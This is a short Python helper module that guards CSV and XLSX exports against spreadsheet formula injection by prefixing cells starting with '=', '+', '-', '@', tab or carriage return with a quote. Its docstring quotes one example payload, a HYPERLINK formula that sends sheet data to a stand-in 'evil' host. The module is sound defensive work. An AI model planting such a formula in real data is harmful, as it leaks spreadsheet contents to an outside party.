"""Helpers for every CSV and XLSX export: neutralise spreadsheet formulas.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula
by Excel and LibreOffice ("CSV injection"): a participant's name typed as
`=HYPERLINK("http://evil/?"&A1)` would leak data from the sheet of whoever opens the
export. Every export passes each value through `safe_cell` (or a whole row through
`safe_row`); the value is then shown as typed, prefixed with a quote (OWASP's advice).
"""

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value to write in a CSV or XLSX cell: text that could start a formula gets a `'`.

    Numbers, dates, booleans and None are returned as they are (a negative number is a
    number, not a formula); anything else is written as text.
    """
    if value is None or isinstance(value, (bool, int, float)):
        return value
    if hasattr(value, "isoformat"):  # date, datetime, time
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    """`safe_cell` applied to each value of a row."""
    return [safe_cell(value) for value in values]
